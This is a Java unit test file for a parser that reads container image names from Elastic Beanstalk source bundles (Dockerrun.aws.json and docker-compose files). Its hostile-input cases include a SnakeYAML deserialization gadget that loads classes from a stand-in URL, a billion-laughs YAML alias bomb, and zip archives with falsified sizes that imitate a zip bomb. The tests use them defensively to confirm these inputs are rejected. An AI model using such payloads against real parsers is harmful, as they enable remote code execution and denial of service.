package dev.beanstalkmigrator.reconcile.image;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.beanstalkmigrator.port.CloudError;
import dev.beanstalkmigrator.reconcile.image.BundleLookup.Found;
import dev.beanstalkmigrator.reconcile.image.BundleLookup.NotFound;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class SourceBundleImageTest {

    static final String V1 = """
            {"AWSEBDockerrunVersion": "1",
             "Image": {"Name": "repo/app:1.2", "Update": "true"},
             "Ports": [{"ContainerPort": 8080}]}
            """;
    static final String V1_NUMERIC = """
            {"AWSEBDockerrunVersion": 1, "Image": {"Name": "repo/app:1.3"}}
            """;
    static final String V1_DOCKERFILE = """
            {"AWSEBDockerrunVersion": "1", "Ports": [{"ContainerPort": 8080}]}
            """;
    static final String V2 = """
            {"AWSEBDockerrunVersion": 2,
             "containerDefinitions": [
               {"name": "nginx", "image": "nginx:1.27", "essential": true},
               {"name": "web", "image": "123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "memory": 256}
             ]}
            """;
    static final String V2_STRING = """
            {"AWSEBDockerrunVersion": "2",
             "containerDefinitions": [{"name": "web", "image": "repo/web:s"}]}
            """;
    static final String V2_OTHERS = """
            {"AWSEBDockerrunVersion": 2,
             "containerDefinitions": [{"name": "app", "image": "a:1"}, {"name": "nginx", "image": "n:1"}]}
            """;
    static final String V2_NO_IMAGE = """
            {"AWSEBDockerrunVersion": 2, "containerDefinitions": [{"name": "web", "memory": 128}]}
            """;
    static final String V3 = """
            {"AWSEBDockerrunVersion": 3, "containerDefinitions": []}
            """;
    static final String COMPOSE = """
            services:
              web:
                image: repo/web:compose
                ports: ["80:8080"]
                environment:
                  DB_PASSWORD: hunter2
              worker:
                build: ./worker
            """;
    static final String COMPOSE_OTHER = """
            services:
              api:
                image: repo/api:9
            """;
    static final String COMPOSE_ANCHORS = """
            x-base: &base
              image: repo/web:anchored
              restart: always
            services:
              web:
                <<: *base
                ports: ["80:80"]
            """;
    static final String COMPOSE_INTERPOLATED = """
            services:
              web:
                image: repo/web:${TAG}
            """;
    static final String COMPOSE_BROKEN = """
            services:
              web:
                image: repo/web:1
                environment:
                  DB_PASSWORD: hunter2
                 bad: indentation: here
            """;
    static final String COMPOSE_GLOBAL_TAG = """
            services: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
            """;
    static final String COMPOSE_MERGE_LIST = """
            x-first: &first {image: repo/web:first}
            x-second: &second {image: repo/web:second, build: .}
            services:
              web:
                <<: [*first, *second]
              worker:
                <<: *second
                image: repo/worker:own
            """;
    static final String COMPOSE_DUPLICATE_SERVICE = """
            services:
              web: {image: repo/web:1}
              web: {image: repo/web:2}
            """;

    record Expect(String image, String file, String[] reasonParts) {
        static Expect found(String image, String file) {
            return new Expect(image, file, null);
        }

        static Expect notFound(String... reasonParts) {
            return new Expect(null, null, reasonParts);
        }
    }

    static Stream<Arguments> cases() {
        return Stream.of(
                // Dockerrun.aws.json v1: one container, any name takes its image
                c("v1 zipped", zip("Dockerrun.aws.json", V1), "whatever",
                        Expect.found("repo/app:1.2", "Dockerrun.aws.json")),
                c("v1 numeric version", zip("Dockerrun.aws.json", V1_NUMERIC), "web",
                        Expect.found("repo/app:1.3", "Dockerrun.aws.json")),
                c("v1 plain", bytes(V1), "web", Expect.found("repo/app:1.2", "Dockerrun.aws.json")),
                c("v1 plain with BOM", bytes("\uFEFF" + V1), "web",
                        Expect.found("repo/app:1.2", "Dockerrun.aws.json")),
                c("v1 without Image is built from a Dockerfile", zip("Dockerrun.aws.json", V1_DOCKERFILE), "web",
                        Expect.notFound("Dockerrun.aws.json v1 has no Image.Name", "Dockerfile")),

                // v2: picks the container by name
                c("v2 numeric version picks web", zip("Dockerrun.aws.json", V2), "web",
                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "Dockerrun.aws.json")),
                c("v2 picks nginx", zip("Dockerrun.aws.json", V2), "nginx",
                        Expect.found("nginx:1.27", "Dockerrun.aws.json")),
                c("v2 string version", zip("Dockerrun.aws.json", V2_STRING), "web",
                        Expect.found("repo/web:s", "Dockerrun.aws.json")),
                c("v2 plain", bytes(V2), "web",
                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "Dockerrun.aws.json")),
                c("v2 missing container", zip("Dockerrun.aws.json", V2_OTHERS), "web",
                        Expect.notFound("Dockerrun.aws.json v2 has no container named 'web' (it has: app, nginx)")),
                c("v2 container without image", zip("Dockerrun.aws.json", V2_NO_IMAGE), "web",
                        Expect.notFound("container 'web' has no image")),
                c("unsupported version", zip("Dockerrun.aws.json", V3), "web",
                        Expect.notFound("unsupported AWSEBDockerrunVersion '3'")),
                c("invalid JSON", zip("Dockerrun.aws.json", "{\"AWSEBDockerrunVersion\": 2, \"containerDefinitions\": ["),
                        "web", Expect.notFound("Dockerrun.aws.json is not valid JSON")),
                c("invalid JSON plain", bytes("{\"AWSEBDockerrunVersion\": 2,, }"), "web",
                        Expect.notFound("not valid JSON (line 1")),
                c("trailing garbage after JSON", zip("Dockerrun.aws.json", V1 + " {}"), "web",
                        Expect.notFound("is not valid JSON")),

                // docker-compose
                c("compose .yml zipped", zip("docker-compose.yml", COMPOSE), "web",
                        Expect.found("repo/web:compose", "docker-compose.yml")),
                c("compose .yaml zipped", zip("docker-compose.yaml", COMPOSE), "web",
                        Expect.found("repo/web:compose", "docker-compose.yaml")),
                c("compose plain", bytes(COMPOSE), "web", Expect.found("repo/web:compose", "docker-compose.yml")),
                c("compose written as JSON, plain", bytes("{\"services\": {\"web\": {\"image\": \"repo/web:j\"}}}"),
                        "web", Expect.found("repo/web:j", "docker-compose.yml")),
                c("compose service with only build", zip("docker-compose.yml", COMPOSE), "worker",
                        Expect.notFound("service 'worker' has no image", "build:")),
                c("compose missing service", zip("docker-compose.yml", COMPOSE_OTHER), "web",
                        Expect.notFound("docker-compose.yml has no service named 'web' (it has: api)")),
                c("compose anchors and merge keys", zip("docker-compose.yml", COMPOSE_ANCHORS), "web",
                        Expect.found("repo/web:anchored", "docker-compose.yml")),
                c("compose variable substitution", zip("docker-compose.yml", COMPOSE_INTERPOLATED), "web",
                        Expect.notFound("uses variable substitution", "image template")),
                c("compose without services", bytes("version: '3'\nnetworks: {}\n"), "web",
                        Expect.notFound("has no services mapping")),
                c("compose merge list: the earlier mapping wins", zip("docker-compose.yml", COMPOSE_MERGE_LIST),
                        "web", Expect.found("repo/web:first", "docker-compose.yml")),
                c("compose merge: the service's own key wins", zip("docker-compose.yml", COMPOSE_MERGE_LIST),
                        "worker", Expect.found("repo/worker:own", "docker-compose.yml")),
                c("compose service given twice", zip("docker-compose.yml", COMPOSE_DUPLICATE_SERVICE), "web",
                        Expect.notFound("docker-compose.yml services sets 'web' twice (again at line 3)")),
                c("compose .yml wins over .yaml",
                        zip(entries("docker-compose.yaml", COMPOSE_OTHER, "docker-compose.yml", COMPOSE)), "web",
                        Expect.found("repo/web:compose", "docker-compose.yml")),

                // layout
                c("nested single folder", zip(entries("myapp/", "", "myapp/Dockerrun.aws.json", V1,
                        "myapp/src/main.py", "print(1)")), "web", Expect.found("repo/app:1.2", "myapp/Dockerrun.aws.json")),
                c("__MACOSX noise", zip(entries("myapp/Dockerrun.aws.json", V2,
                        "__MACOSX/myapp/._Dockerrun.aws.json", "\u0000\u0005junk", "myapp/.DS_Store", "x",
                        "__MACOSX/._myapp", "junk")), "web",
                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "myapp/Dockerrun.aws.json")),
                c("two top-level folders", zip(entries("a/Dockerrun.aws.json", V1, "b/readme.txt", "hi")), "web",
                        Expect.notFound("no Dockerrun.aws.json, docker-compose.yml or docker-compose.yaml at the root")),
                c("root file wins over nested folder", zip(entries("Dockerrun.aws.json", V1_NUMERIC,
                        "sub/Dockerrun.aws.json", V1)), "web", Expect.found("repo/app:1.3", "Dockerrun.aws.json")),
                c("Dockerfile only", zip(entries("Dockerfile", "FROM scratch", "app.py", "")), "web",
                        Expect.notFound("no Dockerrun.aws.json", "Dockerfile")),
                c("windows separators", zip(entries("myapp\\Dockerrun.aws.json", V1)), "web",
                        Expect.found("repo/app:1.2", "myapp/Dockerrun.aws.json")),
                c("stored (uncompressed) entry", storedZip("Dockerrun.aws.json", V2), "nginx",
                        Expect.found("nginx:1.27", "Dockerrun.aws.json")),

                // both files: Elastic Beanstalk runs docker-compose.yml
                c("both files present, compose wins", zip(entries("Dockerrun.aws.json", V1,
                        "docker-compose.yml", COMPOSE)), "web", Expect.found("repo/web:compose", "docker-compose.yml")),
                c("both files present, compose lacks the service", zip(entries("Dockerrun.aws.json", V1,
                        "docker-compose.yml", COMPOSE_OTHER)), "web",
                        Expect.notFound("docker-compose.yml has no service named 'web'",
                                "Elastic Beanstalk uses docker-compose.yml over Dockerrun.aws.json")),
                c("both files present in a folder", zip(entries("app/Dockerrun.aws.json", V1,
                        "app/docker-compose.yaml", COMPOSE)), "web",
                        Expect.found("repo/web:compose", "app/docker-compose.yaml")),
                c("duplicate candidate name", zip(entries("Dockerrun.aws.json", V1), entries("Dockerrun.aws.json", V2)),
                        "web", Expect.notFound("holds 'Dockerrun.aws.json' more than once")),

                // junk and hostile input
                c("empty bundle", new byte[0], "web", Expect.notFound("empty")),
                c("blank bundle", bytes(" \n\t"), "web", Expect.notFound("blank")),
                c("junk bytes", junk(4096, 1), "web", Expect.notFound("neither a zip nor UTF-8 text")),
                c("zip magic then junk", concat(new byte[] {'P', 'K', 3, 4}, junk(500, 2)), "web",
                        Expect.notFound("zip that cannot be read")),
                c("truncated zip", truncate(zip("Dockerrun.aws.json", V1), 40), "web",
                        Expect.notFound("zip that cannot be read")),
                c("empty zip", zip(new LinkedHashMap<>()), "web", Expect.notFound("empty zip")),
                c("plain text", bytes("hello world"), "web", Expect.notFound("not a YAML mapping")),
                c("YAML global tag", bytes(COMPOSE_GLOBAL_TAG), "web", Expect.notFound("docker-compose.yml")),
                c("YAML local tag", bytes("services: !custom {web: {image: x}}\n"), "web",
                        Expect.notFound("the source bundle (read as docker-compose.yml) cannot be read at line 1,"
                                + " column 11: type tags like `!custom` are not allowed in a compose file")),
                // The plan's YAML setup: no type tags at all, its nesting and node limits.
                c("YAML standard tag", zip("docker-compose.yml", "services: {web: {image: !!str repo/web:1}}\n"),
                        "web", Expect.notFound("docker-compose.yml cannot be read at line 1, column 25: type tags"
                                + " like `!!str` are not allowed")),
                c("YAML nested deeper than a plan may be", zip("docker-compose.yml", COMPOSE + deeplyNested(25)),
                        "web", Expect.notFound("docker-compose.yml cannot be read",
                                "nesting is deeper than 20 levels")),
                c("YAML alias expansion under the alias cap", zip("docker-compose.yml", COMPOSE + aliasExpansion()),
                        "web", Expect.notFound("docker-compose.yml cannot be read",
                                "expands to more than 100000 nodes")),
                c("YAML alias bomb", bytes(billionLaughs()), "web", Expect.notFound("more than 50 aliases")),
                c("entry over the cap", zip("Dockerrun.aws.json", V1 + " ".repeat(SourceBundleImage.MAX_ENTRY_BYTES)),
                        "web", Expect.notFound("Dockerrun.aws.json is larger than 1048576 bytes")),
                c("entry over the cap with a lying size", lieAboutSizes(zip("docker-compose.yml",
                        COMPOSE + "#".repeat(SourceBundleImage.MAX_ENTRY_BYTES))), "web",
                        Expect.notFound("docker-compose.yml is larger than 1048576 bytes")),
                c("plain bundle over the cap", bytes(V1 + " ".repeat(SourceBundleImage.MAX_ENTRY_BYTES)), "web",
                        Expect.notFound("the source bundle " + NAME + " is " + (V1.length() + 1048576) + " bytes and"
                                + " has no zip end of central directory in its last 65557 bytes (it is truncated, or"
                                + " not a zip); a plain Dockerrun.aws.json or docker-compose.yml is read up to 1048576"
                                + " bytes")),
                c("too many entries", manyEntries(SourceBundleImage.MAX_ENTRIES + 1), "web",
                        Expect.notFound("more than 10000 entries")),
                c("ZIP64 directory with too many entries", manyEntries(70_000), "web",
                        Expect.notFound("more than 10000 entries")),
                c("ZIP64 sizes and offset in the extra field", zip64("Dockerrun.aws.json", V2), "web",
                        Expect.found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "Dockerrun.aws.json")),
                c("ZIP64 marked but no locator", truncateZip64Locator(zip64("Dockerrun.aws.json", V2)), "web",
                        Expect.notFound("it marks ZIP64 sizes but has no ZIP64 locator")),
                c("central directory past the end", patchEndOfCentralDirectory(zip("Dockerrun.aws.json", V1), 16,
                        0x7FFFFFF0), "web", Expect.notFound("its central directory lies outside the file")),
                c("more entries declared than written", patchEndOfCentralDirectory(zip("Dockerrun.aws.json", V1), 10,
                        2), "web", Expect.notFound("its central directory is corrupt")),
                c("encrypted entry", patchCentralDirectory(zip("Dockerrun.aws.json", V1), 8, 1), "web",
                        Expect.notFound("Dockerrun.aws.json is encrypted")),
                c("unsupported compression", patchCentralDirectory(zip("Dockerrun.aws.json", V1), 10, 12), "web",
                        Expect.notFound("Dockerrun.aws.json uses unsupported compression method 12")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void finds(String name, byte[] bundle, String container, Expect expect) {
        BundleLookup result = assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> find(bundle, container));
        if (expect.reasonParts() == null) {
            assertEquals(new Found(expect.image(), expect.file()), result);
        } else {
            NotFound notFound = assertInstanceOf(NotFound.class, result, () -> "got " + result);
            for (String part : expect.reasonParts()) {
                assertTrue(notFound.reason().contains(part),
                        () -> "reason '" + notFound.reason() + "' should contain '" + part + "'");
            }
        }
    }

    static final String NAME = "s3://bundles/shop/v7.zip";

    static BundleLookup find(byte[] bundle, String container) {
        return SourceBundleImage.find(SourceBundleImage.Bundle.inMemory(NAME, bundle), container);
    }

    /** A bundle in memory that notes every read, as a bundle in S3 makes a ranged GET of each. */
    static class Counted implements SourceBundleImage.Bundle {
        final SourceBundleImage.Bundle bytes;
        final List<Integer> reads = new ArrayList<>();

        Counted(byte[] bytes) {
            this.bytes = SourceBundleImage.Bundle.inMemory(NAME, bytes);
        }

        @Override
        public String name() {
            return bytes.name();
        }

        @Override
        public long size() {
            return bytes.size();
        }

        @Override
        public byte[] read(long offset, int length) {
            reads.add(length);
            return bytes.read(offset, length);
        }

        long bytesRead() {
            return reads.stream().mapToLong(Integer::longValue).sum();
        }
    }

    @Test
    void aLargeZipIsReadFromItsTailAloneWhenTheEntryLiesInIt() {
        Counted bundle = new Counted(largeZip(8 << 20, false));
        assertEquals(new Found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "app/Dockerrun.aws.json"),
                SourceBundleImage.find(bundle, "web"));
        assertEquals(List.of(65_557), bundle.reads, "one read: the tail holds the directory and the entry");
    }

    @Test
    void aLargeZipIsReadByItsTailThenTheLocalHeaderAndBytesOfTheOneEntry() {
        Counted bundle = new Counted(largeZip(8 << 20, true));
        assertEquals(new Found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "app/Dockerrun.aws.json"),
                SourceBundleImage.find(bundle, "web"));
        assertEquals(3, bundle.reads.size(), bundle.reads::toString);
        assertTrue(bundle.bytesRead() < 65_557 + 1024, () -> bundle.bytesRead() + " bytes read");
    }

    @Test
    void aCentralDirectoryLargerThanTheTailIsReadAChunkAtATime() {
        Map<String, String> files = new LinkedHashMap<>();
        for (int i = 0; i < 4_000; i++) {
            files.put("app/static/" + "x".repeat(90) + i + ".css", "");
        }
        files.put("app/Dockerrun.aws.json", V2);
        Counted bundle = new Counted(zip(Map.of("app/media.bin", randomText(2 << 20)), files));
        assertEquals(new Found("123.dkr.ecr.eu-west-1.amazonaws.com/web:v7", "app/Dockerrun.aws.json"),
                SourceBundleImage.find(bundle, "web"));
        assertTrue(bundle.reads.size() > 3, bundle.reads::toString);
        assertTrue(bundle.reads.stream().allMatch(n -> n <= 256 * 1024), bundle.reads::toString);
        assertTrue(bundle.bytesRead() < 1 << 20, () -> bundle.bytesRead() + " bytes read");
    }

    @Test
    void aLargeZipWithoutTheFilesSaysWhatItHas() {
        byte[] zip = zip(Map.of("app/media.bin", randomText(2 << 20)), Map.of("app/Dockerfile", "FROM scratch"));
        NotFound notFound = assertInstanceOf(NotFound.class, find(zip, "web"));
        assertEquals("the zip has no Dockerrun.aws.json, docker-compose.yml or docker-compose.yaml in the zip's"
                + " single top-level folder 'app/'; it has a Dockerfile, so the image is built on the instances and has"
                + " no name to run", notFound.reason());
    }

    @Test
    void aTruncatedLargeZipIsNamedWithItsSize() {
        byte[] zip = truncate(largeZip(2 << 20, true), (2 << 20) + 100);
        NotFound notFound = assertInstanceOf(NotFound.class, find(zip, "web"));
        assertTrue(notFound.reason().startsWith("the source bundle " + NAME + " is " + zip.length + " bytes and has no"
                + " zip end of central directory"), notFound.reason());
    }

    @Test
    void aLargeZipWhoseEntryRunsPastItsEndIsRefused() {
        byte[] zip = patchCentralDirectory(largeZip(2 << 20, false), 20, 0x7FFFFFF0); // compressed size
        NotFound notFound = assertInstanceOf(NotFound.class, find(zip, "web"));
        assertEquals("app/Dockerrun.aws.json runs past the end of the zip", notFound.reason());
    }

    @Test
    void entriesWithDataDescriptorsAreReadByTheCentralDirectorysSizes() {
        byte[] zip = zip("Dockerrun.aws.json", V1);
        int flags = (zip[6] & 0xFF) | (zip[7] & 0xFF) << 8;
        assertEquals(8, flags & 8, "the local header defers its sizes to a data descriptor");
        assertEquals(0, zip[18] | zip[19] | zip[20] | zip[21], "no compressed size in the local header");
        assertEquals(new Found("repo/app:1.2", "Dockerrun.aws.json"), find(zip, "web"));
    }

    @Test
    void aFailureToReadIsNoAnswer() {
        SourceBundleImage.Bundle failing = new Counted(largeZip(2 << 20, false)) {
            @Override
            public byte[] read(long offset, int length) {
                throw new CloudError.Transient("s3:GetObject", "SlowDown", "Please reduce your request rate", null);
            }
        };
        CloudError.Transient error = assertThrows(CloudError.Transient.class,
                () -> SourceBundleImage.find(failing, "web"));
        assertEquals("SlowDown", error.code());
    }

    @Test
    void aHugeUnrelatedEntryIsNeverInflated() {
        byte[] bundle = zip(entries("Dockerrun.aws.json", V1), Map.of("assets/huge.bin",
                new String(new char[64 * 1024 * 1024])));
        BundleLookup result = assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> find(bundle, "web"));
        assertEquals(new Found("repo/app:1.2", "Dockerrun.aws.json"), result);
    }

    @Test
    void reasonsNeverQuoteFileContent() {
        BundleLookup result = find(zip("docker-compose.yml", COMPOSE_BROKEN), "web");
        NotFound notFound = assertInstanceOf(NotFound.class, result);
        assertTrue(notFound.reason().contains("docker-compose.yml cannot be read at line 6"), notFound.reason());
        assertFalse(notFound.reason().contains("hunter2"), notFound.reason());
    }

    @Test
    void randomJunkNeverThrows() {
        Random random = new Random(42);
        byte[] valid = zip(entries("Dockerrun.aws.json", V2, "docker-compose.yml", COMPOSE));
        for (int i = 0; i < 2000; i++) {
            byte[] mutated = valid.clone();
            for (int j = 0; j < 1 + random.nextInt(8); j++) {
                mutated[random.nextInt(mutated.length)] = (byte) random.nextInt(256);
            }
            byte[] bundle = random.nextInt(4) == 0 ? truncate(mutated, random.nextInt(mutated.length)) : mutated;
            assertInstanceOf(BundleLookup.class, find(bundle, "web"));
        }
    }

    // ---- builders -----------------------------------------------------------------------------------

    static Arguments c(String name, byte[] bundle, String container, Expect expect) {
        return Arguments.of(name, bundle, container, expect);
    }

    static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }

    static Map<String, String> entries(String... namesAndContents) {
        Map<String, String> map = new LinkedHashMap<>();
        for (int i = 0; i < namesAndContents.length; i += 2) {
            map.put(namesAndContents[i], namesAndContents[i + 1]);
        }
        return map;
    }

    static byte[] zip(String name, String content) {
        return zip(entries(name, content));
    }

    @SafeVarargs
    static byte[] zip(Map<String, String>... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        // ZipOutputStream refuses duplicate names, so a duplicate is written under another name, then patched.
        Set<String> seen = new HashSet<>();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map<String, String> part : parts) {
                for (Map.Entry<String, String> e : part.entrySet()) {
                    String name = seen.add(e.getKey()) ? e.getKey() : "Dockerrun.aws.jsoX";
                    zip.putNextEntry(new ZipEntry(name));
                    zip.write(e.getValue().getBytes(UTF_8));
                    zip.closeEntry();
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return replaceAll(out.toByteArray(), bytes("Dockerrun.aws.jsoX"), bytes("Dockerrun.aws.json"));
    }

    /**
     * A zip of {@code largeBytes} of stored, incompressible bytes and an {@code app/Dockerrun.aws.json} before or
     * after them.
     */
    static byte[] largeZip(int largeBytes, boolean dockerrunFirst) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(largeBytes + 4096);
        byte[] large = new byte[largeBytes];
        new Random(3).nextBytes(large);
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            if (dockerrunFirst) {
                zip.putNextEntry(new ZipEntry("app/Dockerrun.aws.json"));
                zip.write(bytes(V2));
            }
            zip.setLevel(Deflater.NO_COMPRESSION);
            zip.putNextEntry(new ZipEntry("app/media.bin"));
            zip.write(large);
            zip.setLevel(Deflater.DEFAULT_COMPRESSION);
            if (!dockerrunFirst) {
                zip.putNextEntry(new ZipEntry("app/Dockerrun.aws.json"));
                zip.write(bytes(V2));
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Text that deflate cannot shrink much. */
    static String randomText(int length) {
        Random random = new Random(11);
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) (' ' + random.nextInt(95)));
        }
        return text.toString();
    }

    /**
     * A zip written as tools write one past 4 GiB: a stored entry whose sizes and local header offset are only in
     * its ZIP64 extra field, and a ZIP64 end of central directory, its locator, and an end of central directory
     * that defers to them.
     */
    static byte[] zip64(String name, String content) {
        byte[] data = bytes(content);
        byte[] n = bytes(name);
        CRC32 crc = new CRC32();
        crc.update(data);
        ByteBuffer b = ByteBuffer.allocate(256 + 2 * n.length + data.length).order(ByteOrder.LITTLE_ENDIAN);
        b.putInt(0x04034b50).putShort((short) 45).putShort((short) 0).putShort((short) 0).putInt(0)
                .putInt((int) crc.getValue()).putInt(data.length).putInt(data.length)
                .putShort((short) n.length).putShort((short) 0).put(n).put(data);
        int directory = b.position();
        b.putInt(0x02014b50).putShort((short) 45).putShort((short) 45).putShort((short) 0).putShort((short) 0)
                .putInt(0).putInt((int) crc.getValue()).putInt(-1).putInt(-1)
                .putShort((short) n.length).putShort((short) 28).putShort((short) 0).putShort((short) 0)
                .putShort((short) 0).putInt(0).putInt(-1).put(n)
                .putShort((short) 1).putShort((short) 24).putLong(data.length).putLong(data.length).putLong(0);
        int directorySize = b.position() - directory;
        int record = b.position();
        b.putInt(0x06064b50).putLong(44).putShort((short) 45).putShort((short) 45).putInt(0).putInt(0)
                .putLong(1).putLong(1).putLong(directorySize).putLong(directory);
        b.putInt(0x07064b50).putInt(0).putLong(record).putInt(1);
        b.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) -1).putShort((short) -1)
                .putInt(-1).putInt(-1).putShort((short) 0);
        return Arrays.copyOf(b.array(), b.position());
    }

    /** The ZIP64 zip without its locator (the 20 bytes before the end of central directory). */
    static byte[] truncateZip64Locator(byte[] zip) {
        byte[] out = new byte[zip.length - 20];
        System.arraycopy(zip, 0, out, 0, zip.length - 42);
        System.arraycopy(zip, zip.length - 22, out, zip.length - 42, 22);
        return out;
    }

    /**
     * Sets a field of every central directory header: the flags (8, or-ed in) or the method (10), 16 bits; the
     * compressed size (20) or the local header offset (42), 32 bits.
     */
    static byte[] patchCentralDirectory(byte[] zip, int at, int value) {
        byte[] out = zip.clone();
        for (int p = 0; p + 46 <= out.length; p++) {
            if (out[p] == 'P' && out[p + 1] == 'K' && out[p + 2] == 1 && out[p + 3] == 2) {
                ByteBuffer field = ByteBuffer.wrap(out, p + at, at > 10 ? 4 : 2).order(ByteOrder.LITTLE_ENDIAN);
                if (at > 10) {
                    field.putInt(value);
                } else {
                    field.putShort((short) (value | (at == 8 ? out[p + 8] & 0xFF : 0)));
                }
            }
        }
        return out;
    }

    /** Sets a field of the end of central directory record (the zip's last 22 bytes): 10 (a count) or 16. */
    static byte[] patchEndOfCentralDirectory(byte[] zip, int at, int value) {
        byte[] out = zip.clone();
        ByteBuffer field = ByteBuffer.wrap(out, out.length - 22 + at, at == 16 ? 4 : 2).order(ByteOrder.LITTLE_ENDIAN);
        if (at == 16) {
            field.putInt(value);
        } else {
            field.putShort((short) value);
        }
        return out;
    }

    static byte[] storedZip(String name, String content) {
        byte[] data = bytes(content);
        CRC32 crc = new CRC32();
        crc.update(data);
        ZipEntry entry = new ZipEntry(name);
        entry.setMethod(ZipEntry.STORED);
        entry.setSize(data.length);
        entry.setCompressedSize(data.length);
        entry.setCrc(crc.getValue());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(entry);
            zip.write(data);
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] manyEntries(int count) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(0);
            zip.putNextEntry(new ZipEntry("Dockerrun.aws.json"));
            zip.write(bytes(V1));
            zip.closeEntry();
            for (int i = 1; i < count; i++) {
                zip.putNextEntry(new ZipEntry("f" + i));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Sets every central directory entry's uncompressed size to 10 bytes, as a zip bomb would. */
    static byte[] lieAboutSizes(byte[] zip) {
        byte[] out = zip.clone();
        for (int p = 0; p + 46 <= out.length; p++) {
            if (out[p] == 'P' && out[p + 1] == 'K' && out[p + 2] == 1 && out[p + 3] == 2) {
                out[p + 24] = 10;
                out[p + 25] = 0;
                out[p + 26] = 0;
                out[p + 27] = 0;
            }
        }
        return out;
    }

    static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char prev = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            yaml.append("]\n");
        }
        return yaml.append("services: {web: {image: *i}}\n").toString();
    }

    /** {@code depth} mappings, one inside the other, under a top-level key. */
    static String deeplyNested(int depth) {
        StringBuilder yaml = new StringBuilder("x-deep:\n");
        for (int i = 1; i < depth; i++) {
            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        return yaml.append("  ".repeat(depth)).append("end: 1\n").toString();
    }

    /** 40 aliases (under the cap of 50) whose expansion is 10^4 lists of 10: more nodes than a plan may have. */
    static String aliasExpansion() {
        StringBuilder yaml = new StringBuilder("x-l0: &l0 [a, a, a, a, a, a, a, a, a, a]\n");
        for (int level = 1; level <= 4; level++) {
            yaml.append("x-l").append(level).append(": &l").append(level).append(" [");
            for (int i = 0; i < 10; i++) {
                yaml.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
            }
            yaml.append("]\n");
        }
        return yaml.toString();
    }

    static byte[] junk(int length, long seed) {
        byte[] b = new byte[length];
        new Random(seed).nextBytes(b);
        b[0] = (byte) 0xC3;
        b[1] = 0x28;
        return b;
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    static byte[] truncate(byte[] b, int length) {
        return Arrays.copyOf(b, length);
    }

    static byte[] replaceAll(byte[] haystack, byte[] from, byte[] to) {
        byte[] out = haystack.clone();
        for (int p = 0; p + from.length <= out.length; p++) {
            if (Arrays.equals(out, p, p + from.length, from, 0, from.length)) {
                System.arraycopy(to, 0, out, p, to.length);
            }
        }
        return out;
    }
}
